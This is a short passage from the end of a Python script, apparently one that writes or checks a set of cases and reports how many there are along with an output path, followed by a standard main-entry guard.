    print(f"{len(CASES)} cases, {'checked' if check else 'written'}: {OUT}")


if __name__ == "__main__":
    main(sys.argv)
